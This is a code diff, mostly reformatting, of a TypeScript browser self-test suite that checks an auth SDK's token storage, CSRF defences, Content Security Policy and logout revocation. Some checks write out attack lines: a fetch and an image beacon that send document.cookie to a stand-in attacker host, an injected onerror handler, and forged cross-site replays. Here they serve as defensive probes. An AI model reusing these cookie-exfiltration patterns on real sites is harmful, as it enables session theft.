@@ -69,7 +69,10 @@ function violationsFor(match: (v: SecurityPolicyViolationEvent) => boolean): Sec
 const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
 
 /** Waits until a matching violation arrives (or `ms` pass). */
-async function awaitViolation(match: (v: SecurityPolicyViolationEvent) => boolean, ms = 1500): Promise<SecurityPolicyViolationEvent | undefined> {
+async function awaitViolation(
+  match: (v: SecurityPolicyViolationEvent) => boolean,
+  ms = 1500,
+): Promise<SecurityPolicyViolationEvent | undefined> {
   const until = Date.now() + ms;
   while (Date.now() < until) {
     const found = violationsFor(match)[0];
@@ -89,7 +92,10 @@ export const TOKEN_CHECKS: Check[] = [
     title: 'Read the session from document.cookie',
     expected: 'No access, refresh, step-up or device cookie is visible; only the CSRF cookie is.',
     async run() {
-      const cookies = document.cookie.split(';').map((c) => c.trim()).filter(Boolean);
+      const cookies = document.cookie
+        .split(';')
+        .map((c) => c.trim())
+        .filter(Boolean);
       const names = cookies.map((c) => c.split('=')[0] ?? '');
       const credentials = names.filter((n) => /tw_(at|rt|su|dev|oidc|at_sig)$/.test(n));
       const leaked = tokenLike(cookies);
@@ -98,9 +104,12 @@ export const TOKEN_CHECKS: Check[] = [
         ? ' The CSRF cookie is readable by design: the SDK copies it into the X-CSRF-Token header; it is signed, bound to this session and useless without the HttpOnly session cookie.'
         : '';
       const split = names.some((n) => n.endsWith('tw_at_hp'))
-        ? ' Split-cookie mode: the access token\'s header.payload half is readable, its signature is HttpOnly, so the half is not a credential.'
+        ? " Split-cookie mode: the access token's header.payload half is readable, its signature is HttpOnly, so the half is not a credential."
         : '';
-      return { pass: credentials.length === 0 && leaked.length === 0, observed: `${visible}${csrf}${split}${credentials.length ? ` Exposed: ${credentials.join(', ')}!` : ''}` };
+      return {
+        pass: credentials.length === 0 && leaked.length === 0,
+        observed: `${visible}${csrf}${split}${credentials.length ? ` Exposed: ${credentials.join(', ')}!` : ''}`,
+      };
     },
   },
   {
@@ -111,7 +120,10 @@ export const TOKEN_CHECKS: Check[] = [
     async run() {
       const values = storageValues(localStorage);
       const leaked = tokenLike(values);
-      return { pass: leaked.length === 0, observed: leaked.length ? `Token-like entries: ${leaked.length}` : describeKeys(values, 'keys') };
+      return {
+        pass: leaked.length === 0,
+        observed: leaked.length ? `Token-like entries: ${leaked.length}` : describeKeys(values, 'keys'),
+      };
     },
   },
   {
@@ -122,7 +134,10 @@ export const TOKEN_CHECKS: Check[] = [
     async run() {
       const values = storageValues(sessionStorage);
       const leaked = tokenLike(values);
-      return { pass: leaked.length === 0, observed: leaked.length ? `Token-like entries: ${leaked.length}` : describeKeys(values, 'keys') };
+      return {
+        pass: leaked.length === 0,
+        observed: leaked.length ? `Token-like entries: ${leaked.length}` : describeKeys(values, 'keys'),
+      };
     },
   },
   {
@@ -135,7 +150,11 @@ export const TOKEN_CHECKS: Check[] = [
       const leaked = tokenLike(values);
       return {
         pass: leaked.length === 0,
-        observed: leaked.length ? `Token-like records: ${leaked.length}` : databases.length ? `${databases.length} databases, ${values.length} records, none token-like` : 'no databases',
+        observed: leaked.length
+          ? `Token-like records: ${leaked.length}`
+          : databases.length
+            ? `${databases.length} databases, ${values.length} records, none token-like`
+            : 'no databases',
       };
     },
   },
@@ -145,9 +164,16 @@ export const TOKEN_CHECKS: Check[] = [
     title: 'Read tokens from API responses',
     expected: 'GET /auth/me and /auth/sessions carry metadata only.',
     async run() {
-      const bodies = await Promise.all(['/auth/me', '/auth/sessions'].map(async (path) => (await client.fetch(path)).text()));
+      const bodies = await Promise.all(
+        ['/auth/me', '/auth/sessions'].map(async (path) => (await client.fetch(path)).text()),
+      );
       const leaked = tokenLike(bodies);
-      return { pass: leaked.length === 0, observed: leaked.length ? 'A token appeared in a response body!' : `${bodies.reduce((n, b) => n + b.length, 0)} bytes of JSON, no token` };
+      return {
+        pass: leaked.length === 0,
+        observed: leaked.length
+          ? 'A token appeared in a response body!'
+          : `${bodies.reduce((n, b) => n + b.length, 0)} bytes of JSON, no token`,
+      };
     },
   },
 ];
@@ -156,15 +182,27 @@ export const CSRF_CHECK_GROUP = 'Cross-site request forgery';
 
 /** Three forged variants of "POST /api/notes with your cookies", replayed by the server. */
 export async function csrfChecks(): Promise<Array<{ check: Omit<Check, 'run'>; result: CheckResult }>> {
-  const r = await api<{ results: Record<string, { status: number; code: string | null }>; control: { status: number } }>('/api/lab/csrf-replay', { method: 'POST' });
+  const r = await api<{
+    results: Record<string, { status: number; code: string | null }>;
+    control: { status: number };
+  }>('/api/lab/csrf-replay', { method: 'POST' });
   const variants: Array<[string, string, string]> = [
-    ['crossSite', 'Replay from another site (Origin: attacker.example, Sec-Fetch-Site: cross-site)', 'Refused: 403 csrf_rejected.'],
+    [
+      'crossSite',
+      'Replay from another site (Origin: attacker.example, Sec-Fetch-Site: cross-site)',
+      'Refused: 403 csrf_rejected.',
+    ],
     ['forgedOrigin', 'Replay from an old browser without Fetch Metadata, forged Origin', 'Refused: 403 csrf_rejected.'],
-    ['forgedToken', 'Replay with neither Origin nor Fetch Metadata and a guessed X-CSRF-Token', 'Refused: 403 csrf_rejected (signed double submit).'],
+    [
+      'forgedToken',
+      'Replay with neither Origin nor Fetch Metadata and a guessed X-CSRF-Token',
+      'Refused: 403 csrf_rejected (signed double submit).',
+    ],
   ];
   return variants.map(([key, title, expected]) => {
     const check = { id: `csrf-${key}`, group: CSRF_CHECK_GROUP, title, expected };
-    if (!r.ok) return { check, result: { pass: false, observed: `The lab route failed: ${r.status} ${r.problem.code}` } };
+    if (!r.ok)
+      return { check, result: { pass: false, observed: `The lab route failed: ${r.status} ${r.problem.code}` } };
     const got = r.data.results[key];
     const control = r.data.control.status === 200;
     const refused = got?.status === 403 && got.code === 'csrf_rejected';
@@ -172,7 +210,11 @@ export async function csrfChecks(): Promise<Array<{ check: Omit<Check, 'run'>; r
       check,
       result: {
         pass: refused && control,
-        observed: `POST /api/notes → ${got?.status} ${got?.code ?? ''}`.trim() + (control ? '; the same cookies do authenticate (GET /api/profile → 200).' : '; control failed: the cookies did not authenticate.'),
+        observed:
+          `POST /api/notes → ${got?.status} ${got?.code ?? ''}`.trim() +
+          (control
+            ? '; the same cookies do authenticate (GET /api/profile → 200).'
+            : '; control failed: the cookies did not authenticate.'),
       },
     };
   });
@@ -192,9 +234,18 @@ export const CSP_CHECKS: Check[] = [
         loaded = true;
       };
       document.head.append(script);
-      const v = await awaitViolation((e) => e.blockedURI.startsWith(ATTACKER) && e.effectiveDirective.startsWith('script-src'));
+      const v = await awaitViolation(
+        (e) => e.blockedURI.startsWith(ATTACKER) && e.effectiveDirective.startsWith('script-src'),
+      );
       script.remove();
-      return { pass: !!v && !loaded, observed: v ? `securitypolicyviolation: ${v.effectiveDirective} blocked ${v.blockedURI.split('?')[0]}` : loaded ? 'The script loaded!' : 'No violation observed' };
+      return {
+        pass: !!v && !loaded,
+        observed: v
+          ? `securitypolicyviolation: ${v.effectiveDirective} blocked ${v.blockedURI.split('?')[0]}`
+          : loaded
+            ? 'The script loaded!'
+            : 'No violation observed',
+      };
     },
   },
   {
@@ -205,12 +256,20 @@ export const CSP_CHECKS: Check[] = [
     async run() {
       const box = document.createElement('div');
       box.hidden = true;
-      box.innerHTML = '<img src="data:image/png;base64,AAAA" onerror="(window.__labPwned=window.__labPwned||[]).push(\'inline\')">';
+      box.innerHTML =
+        '<img src="data:image/png;base64,AAAA" onerror="(window.__labPwned=window.__labPwned||[]).push(\'inline\')">';
       document.body.append(box);
       const v = await awaitViolation((e) => e.effectiveDirective.startsWith('script-src') && e.blockedURI === 'inline');
       box.remove();
       const ran = pwned().includes('inline');
-      return { pass: !ran, observed: ran ? 'The injected handler ran!' : v ? `securitypolicyviolation: ${v.effectiveDirective} blocked an inline handler` : 'The handler did not run' };
+      return {
+        pass: !ran,
+        observed: ran
+          ? 'The injected handler ran!'
+          : v
+            ? `securitypolicyviolation: ${v.effectiveDirective} blocked an inline handler`
+            : 'The handler did not run',
+      };
     },
   },
   {
@@ -240,8 +299,16 @@ export const CSP_CHECKS: Check[] = [
         await fetch(`${ATTACKER}/collect`, { method: 'POST', body: document.cookie, mode: 'no-cors' });
         return { pass: false, observed: 'The request went out!' };
       } catch (error) {
-        const v = await awaitViolation((e) => e.blockedURI.startsWith(ATTACKER) && e.effectiveDirective === 'connect-src', 500);
-        return { pass: true, observed: v ? `securitypolicyviolation: connect-src blocked ${v.blockedURI}` : `${(error as Error).name}: request refused` };
+        const v = await awaitViolation(
+          (e) => e.blockedURI.startsWith(ATTACKER) && e.effectiveDirective === 'connect-src',
+          500,
+        );
+        return {
+          pass: true,
+          observed: v
+            ? `securitypolicyviolation: connect-src blocked ${v.blockedURI}`
+            : `${(error as Error).name}: request refused`,
+        };
       }
     },
   },
@@ -258,7 +325,14 @@ export const CSP_CHECKS: Check[] = [
       };
       img.src = `${ATTACKER}/pixel.gif?c=${encodeURIComponent(document.cookie)}`;
       const v = await awaitViolation((e) => e.blockedURI.startsWith(ATTACKER) && e.effectiveDirective === 'img-src');
-      return { pass: !!v && !loaded, observed: v ? `securitypolicyviolation: img-src blocked ${v.blockedURI.split('?')[0]}` : loaded ? 'The beacon loaded!' : 'No violation observed' };
+      return {
+        pass: !!v && !loaded,
+        observed: v
+          ? `securitypolicyviolation: img-src blocked ${v.blockedURI.split('?')[0]}`
+          : loaded
+            ? 'The beacon loaded!'
+            : 'No violation observed',
+      };
     },
   },
 ];
@@ -267,21 +341,46 @@ export const SESSION_END_GROUP = 'After logout (this signs you out)';
 
 /** Steals the cookies, logs out, then replays them and calls a protected route from this page. */
 export async function sessionEndChecks(): Promise<Array<{ check: Omit<Check, 'run'>; result: CheckResult }>> {
-  const stolenCheck = { id: 'stolen-cookie-after-logout', group: SESSION_END_GROUP, title: 'Replay cookies stolen before logout', expected: 'The server refuses them: 401 (the session is revoked, not just forgotten by the browser).' };
-  const routeCheck = { id: 'protected-after-logout', group: SESSION_END_GROUP, title: 'Call a protected route after logout', expected: 'GET /api/profile → 401 and /auth/me says signed out.' };
+  const stolenCheck = {
+    id: 'stolen-cookie-after-logout',
+    group: SESSION_END_GROUP,
+    title: 'Replay cookies stolen before logout',
+    expected: 'The server refuses them: 401 (the session is revoked, not just forgotten by the browser).',
+  };
+  const routeCheck = {
+    id: 'protected-after-logout',
+    group: SESSION_END_GROUP,
+    title: 'Call a protected route after logout',
+    expected: 'GET /api/profile → 401 and /auth/me says signed out.',
+  };
   const steal = await api<{ id: string }>('/api/lab/steal', { method: 'POST' });
   await client.logout();
   // A plain fetch: no SDK refresh-and-retry, exactly what the browser sends now.
   const profile = await fetch('/api/profile', { credentials: 'same-origin' });
   const me = await client.me();
-  const replayed = steal.ok ? await api<{ status: number; code: string | null; afterMs: number }>('/api/lab/replay-stolen', { method: 'POST', body: { id: steal.data.id } }) : steal;
+  const replayed = steal.ok
+    ? await api<{ status: number; code: string | null; afterMs: number }>('/api/lab/replay-stolen', {
+        method: 'POST',
+        body: { id: steal.data.id },
+      })
+    : steal;
   return [
     {
       check: stolenCheck,
       result: replayed.ok
-        ? { pass: replayed.data.status === 401, observed: `GET /api/profile with the stolen cookies → ${replayed.data.status} ${replayed.data.code ?? ''}`.trim() }
+        ? {
+            pass: replayed.data.status === 401,
+            observed:
+              `GET /api/profile with the stolen cookies → ${replayed.data.status} ${replayed.data.code ?? ''}`.trim(),
+          }
         : { pass: false, observed: `The lab route failed: ${replayed.status}` },
     },
-    { check: routeCheck, result: { pass: profile.status === 401 && me === null, observed: `GET /api/profile → ${profile.status}; /auth/me → ${me ? 'still signed in!' : 'signed out'}` } },
+    {
+      check: routeCheck,
+      result: {
+        pass: profile.status === 401 && me === null,
+        observed: `GET /api/profile → ${profile.status}; /auth/me → ${me ? 'still signed in!' : 'signed out'}`,
+      },
+    },
   ];
 }
